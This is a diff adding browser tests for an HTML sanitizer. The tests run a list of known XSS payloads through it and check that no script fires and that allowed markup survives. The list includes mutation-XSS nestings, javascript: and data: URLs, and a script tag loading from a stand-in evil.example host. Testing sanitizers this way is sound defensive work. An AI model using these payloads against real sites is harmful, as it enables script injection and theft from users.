@@ -6,6 +6,7 @@ The labs and questions are tried on the real book (test_pages.py); here stands w
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import anywidget
@@ -14,6 +15,7 @@ import pytest
 import traitlets
 from ipywidgets.embed import dependency_state, embed_data
 
+import hatch_build
 from tests.browser.support import ROOT
 from widgets.book.state import STATE_MIME, VIEW_MIME
 
@@ -189,3 +191,107 @@ def test_definitions_on_focus_and_for_screen_readers(glossary_page):
     panel.wait_for(state="visible")
     page.keyboard.press("Tab")
     panel.wait_for(state="hidden")
+
+
+# -- descriptions that hold markup ------------------------------------------------------------------------------------
+
+# What base-manager allows in one (its default_inline_sanitize).
+TAGS = ["a", "abbr", "b", "code", "em", "i", "img", "li", "ol", "span", "strong", "ul"]
+ATTRIBUTES = {"*": ["aria-*", "class", "style", "title"], "a": ["href"], "img": ["src"], "style": ["media", "type"]}
+HOSTILE = [
+    "<svg onload=hit()>",
+    "<svg><g onload=hit()><circle r=5></g></svg>",
+    "<svg><script>hit()</script></svg>",
+    "<svg><script href='data:,hit()'/></svg>",
+    "<svg><style><img src=x onerror=hit()></style></svg>",
+    "<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>",
+    "<svg><a xlink:href='javascript:hit()'><text>a</text></a></svg>",
+    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg onload=hit()>'></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit()&gt;'>",
+    "<math><mi xlink:href='data:x,<script>hit()</script>'>x</mi></math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
+    "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
+    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
+    "<template><img src=x onerror=hit()></template>",
+    "<img src=x onerror=hit()>",
+    "<img src='javascript:hit()'>",
+    "<img src='data:text/html,<script>hit()</script>'>",
+    "<a href='javascript:hit()'>a</a>",
+    "<a href=' &#1;java&Tab;script:hit()'>a</a>",
+    "<a href='vbscript:hit()'>a</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=='>a</a>",
+    "<a onclick=hit() onfocus=hit() autofocus tabindex=0>a</a>",
+    "<b style=color:red onmouseover=hit() data-x=1 id=x name=y>b</b>",
+    "<script>hit()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<style>@import 'javascript:hit()';</style>",
+    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<object data='javascript:hit()'>o</object>",
+    "<embed src='javascript:hit()'>", "<base href='//evil.example/'>", "<meta http-equiv=refresh content='0;url=//e'>",
+    "<details open ontoggle=hit()>d</details>", "<input autofocus onfocus=hit()>", "<video><source onerror=hit()>",
+]  # fmt: skip
+
+
+# Any other tag, handler, address or attribute than is allowed.
+LEFT = re.compile(r"(?i)<(?!/?(?:a|b|img|i)\b)|\bon\w+\s*=|script|text/html|data-x|id=|name=")
+
+
+@pytest.fixture(scope="module")
+def sanitizer(tmp_path_factory) -> str:
+    """The sanitizer alone as a classic script."""
+    out = tmp_path_factory.mktemp("sanitizer") / "sanitize.js"
+    options = {"entryPoints": ["src/runtime/sanitize.ts"], "bundle": True, "format": "iife", "globalName": "sanitizer",
+               "outfile": str(out), "logLevel": "warning"}  # fmt: skip
+    code = f'import {{ buildSync }} from "esbuild"; buildSync({json.dumps(options)})'
+    hatch_build.run_node(ROOT, "--input-type=module", "-e", code)
+    return out.read_text(encoding="utf-8")
+
+
+@pytest.fixture
+def clean(sanitizer, tmp_path, open_page):
+    """clean(texts) -> (sanitised texts, how often a script of theirs ran when they were set into the page)."""
+    (tmp_path / "page.html").write_text(f"{HEAD}<main></main>", encoding="utf-8")
+    page = open_page((tmp_path / "page.html").as_uri())
+    page.add_script_tag(content=sanitizer)
+    ask = """async ([texts, allowedTags, allowedAttributes]) => {
+      let hits = 0;
+      window.hit = () => { hits += 1; };
+      const cleaned = texts.map((text) => sanitizer.default(text, { allowedTags, allowedAttributes }));
+      for (const text of cleaned) {
+        const place = document.querySelector("main").appendChild(document.createElement("div"));
+        place.innerHTML = text;
+        for (const each of place.querySelectorAll("*")) each.click();
+      }
+      await new Promise((done) => setTimeout(done, 300));
+      return [cleaned, hits];
+    }"""
+    return lambda texts: page.evaluate(ask, [texts, TAGS, ATTRIBUTES])
+
+
+def test_hostile_markup_leaves_nothing_that_runs(clean):
+    # Without the source of a picture that is allowed: a missing one is an error of the console.
+    cleaned, hits = clean([text.replace("src=x", "src").replace("src=1", "src") for text in HOSTILE])
+    assert hits == 0 and len(cleaned) == len(HOSTILE)
+    for text, left in zip(HOSTILE, cleaned, strict=True):
+        found = re.sub(r'(?:title|style)="[^"]*"', "", left)
+        assert not re.search(
+            r"(?i)<(?!/?(?:a|b|img|i)\b)|\bon\w+\s*=|script|vbscript|text/html|data-x|id=|name=", found
+        ), text
+
+
+def test_markup_that_is_allowed_stays_as_it_is(clean):
+    good = [
+        "<b>K<i>i</i></b> of <em class=\"hue\" title=\"t\">SERT</em>",
+        '<a href="https://example.org/a?b=1&amp;c=2">there</a> <a href="#here">here</a> <a href="../up.html">up</a>',
+        '<a href="mailto:someone@example.org">write</a>',
+        '<span aria-label="two" style="color: red;">2</span><ul><li>one</li></ul><code>a &lt; b</code>',
+        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">',
+        "plain words, 5 &gt; 3",
+    ]  # fmt: skip
+    cleaned, _ = clean(good)
+    assert cleaned == good
+
+
+def test_other_elements_leave_their_words_and_attributes_of_other_tags_go(clean):
+    cleaned, _ = clean(["<p>one <u>two</u></p>", '<b href="#a" src="b.png">c</b>', '<a src="b.png" href="#a">c</a>',
+                        "a<script>b</script><style>c</style><object>d</object>e",
+                        "a<svg><script>b</script><style>c</style></svg>e"])  # fmt: skip
+    assert cleaned == ["one two", "<b>c</b>", '<a href="#a">c</a>', "ae", "ae"]
